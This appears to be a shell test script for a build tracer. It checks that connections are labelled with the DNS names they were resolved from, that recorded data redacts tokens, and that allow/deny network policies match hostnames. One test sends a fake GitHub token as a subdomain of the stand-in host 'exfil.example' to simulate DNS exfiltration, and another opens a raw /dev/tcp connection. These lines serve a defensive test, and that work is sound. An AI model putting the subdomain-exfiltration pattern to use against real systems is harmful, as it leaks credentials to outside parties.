# Egress by hostname: the tracer decodes the DNS answers a traced step receives (UDP and TCP
# port 53) and records each connection with the name its address was resolved from
# (network[].host). Three resolvers: glibc's getaddrinfo through /etc/resolv.conf (in a private
# mount namespace), an unconnected UDP socket (sendto/recvfrom, as musl), and DNS over TCP read
# with recvmsg. A name the step never resolved stays without a host.
source "$(dirname "$0")/../lib.sh"
source "$(dirname "$0")/../attest/attest_lib.sh"
skip_unless_traceable
here=$(cd "$(dirname "$0")" && pwd)
$PY "$here/fake_dns.py" 127.0.0.2 files.example.net=127.0.0.3 cdn.example.net=127.0.0.4 \
  'registry.example.com=>cdn.example.net' udp.example.org=127.0.0.5 \
  ghp_Zx9aQ7bN3kLm5pR8sT2vW4yC6dF1gH0jK3nM.exfil.example=127.0.0.6 > dns.out 2> dns.err &
dns=$!
on_exit "kill $dns"
for _ in $(seq 50); do grep -q ready dns.out && break; kill -0 $dns 2>/dev/null || break; sleep 0.1; done
grep -q ready dns.out || { cat dns.err; echo "SKIP: the fake DNS server cannot bind 127.0.0.2:53"; exit 77; }
mkdir ws && cd ws

host_of() {  # record, address -> the host recorded for connections to it (one line each)
  $PY - "$1" "$2" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
for c in r["trace"]["network"]:
    if c["address"] == sys.argv[2]:
        print(c.get("host", ""))
PY
}
last_record() { ls -t .hallmark/steps/*.json | head -1; }

"$HM" run -q --trace --step udp -- $PY "$here/dns_client.py" udp udp.example.org 8443 > out || fail "udp step"
expect_eq "$(cat out)" 127.0.0.5 "udp answer"
expect_eq "$(host_of "$(last_record)" 127.0.0.5)" udp.example.org "host of a connection resolved over UDP"
expect_eq "$(host_of "$(last_record)" 127.0.0.2 | sort -u)" "" "the DNS server itself has no host"
pass "UDP (sendto/recvfrom): the connection is named by the answer"

"$HM" run -q --trace --step tcp -- $PY "$here/dns_client.py" tcp registry.example.com 8443 > out || fail "tcp step"
expect_eq "$(cat out)" 127.0.0.4 "tcp answer (through the CNAME)"
expect_eq "$(host_of "$(last_record)" 127.0.0.4)" registry.example.com "host of a connection resolved over TCP via a CNAME"
pass "TCP (recvmsg), through a CNAME: named by the name asked for"

# A token travelling as a subdomain is redacted in the recorded name, like any recorded text.
"$HM" run -q --trace --step leak -- $PY "$here/dns_client.py" udp ghp_Zx9aQ7bN3kLm5pR8sT2vW4yC6dF1gH0jK3nM.exfil.example 8443 > out ||
  fail "leak step"
host=$(host_of "$(last_record)" 127.0.0.6)
case "$host" in *exfil.example) ;; *) fail "no host for the token name: '$host'" ;; esac
grep -rq "Zx9aQ7bN3kLm5pR8sT2vW4yC6dF1gH0jK3nM" .hallmark && fail "the token reached the record dir"
pass "a token in a resolved name is redacted in the record"

# Not resolved by this step: an address connected to by number stays unnamed.
"$HM" run -q --trace --step bare -- bash -c 'exec 3<>/dev/tcp/127.0.0.3/8443' 2>/dev/null || true
expect_eq "$(host_of "$(last_record)" 127.0.0.3)" "" "an address never resolved"
pass "an address the step never resolved has no host"

echo "nameserver 127.0.0.2" > "$T/resolv.conf"
if unshare -m true 2>/dev/null; then
  unshare -m sh -c 'mount --bind "$1" /etc/resolv.conf && shift && exec "$@"' sh "$T/resolv.conf" \
    "$HM" run -q --trace --step glibc -- $PY "$here/dns_client.py" glibc files.example.net 8443 > out || fail "glibc step"
  expect_eq "$(cat out)" 127.0.0.3 "glibc answer"
  expect_eq "$(host_of "$(last_record)" 127.0.0.3)" files.example.net "host of a connection resolved by getaddrinfo"
  pass "glibc getaddrinfo through the stub resolver: the connection is named"
else
  echo "note: no mount namespace here; the glibc resolver case is not run"
fi

# The name reaches the telemetry event, the anomaly line, the provenance and the policy.
mkdir "$T/ws2" && cd "$T/ws2"
export HALLMARK_STORE="sqlite://$T/evidence.db" HALLMARK_KEY_PASSWORD=
step() { "$HM" run --trace --step fetch --products out -- sh -c "$1 > out"; }
step "echo offline" 2> err || fail "baseline run"
expect_contains err "no baseline yet"
step "$PY $here/dns_client.py udp udp.example.org 8443" 2> err || fail "fetch run"
expect_contains err "anomaly: step fetch connected to 127.0.0.5:8443 (udp.example.org), not seen in 1 run"
grep -q '"server.address","value":{"stringValue":"udp.example.org"}' .hallmark/events.otlp.jsonl ||
  fail "no connect event with server.address udp.example.org"
pass "the anomaly line and the OTLP connect event name the host"

"$HM" keygen -q -o k >/dev/null
"$HM" attest -q --key k.key --subject out > /dev/null || fail "attest"
echo '{"deniedNetworkDestinations": ["*.example.org"]}' > deny.json
expect_status 1 v "$HM" verify -a out -k k.pub --policy deny.json
expect_contains v "FAILED: policy.deniedNetworkDestinations"
expect_contains v "fetch -> 127.0.0.5:8443 (udp.example.org)"
echo '{"allowedNetworkDestinations": ["udp.example.org:8443"]}' > allow1.json
expect_status 1 v "$HM" verify -a out -k k.pub --policy allow1.json
expect_contains v "not allowed: fetch -> 127.0.0.2:53"
echo '{"allowedNetworkDestinations": ["udp.example.org:8443", "127.0.0.2:53"]}' > allow2.json
expect_status 0 v "$HM" verify -a out -k k.pub --policy allow2.json
expect_contains v "PASSED: out sha256:"
pass "verify's network rules match the resolved host name as well as the address"
